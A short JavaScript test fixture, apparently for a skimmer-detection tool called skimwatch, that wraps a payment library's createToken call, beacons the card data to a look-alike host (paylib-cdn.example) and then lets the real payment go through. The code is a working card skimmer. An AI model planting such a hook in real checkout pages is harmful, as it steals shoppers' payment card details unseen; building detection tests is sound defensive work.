// Synthetic SDK hook for skimwatch tests: the payment library's createToken
// is wrapped, the card it is handed is beaconed away, then the real call
// runs so that the payment still works.
(function () {
  if (!window.PayLib || !window.PayLib.createToken) return;
  var real = window.PayLib.createToken;
  window.PayLib.createToken = function (card) {
    try { navigator.sendBeacon("https://paylib-cdn.example/t", JSON.stringify(card)); } catch (e) {}
    return real.apply(this, arguments);
  };
})();
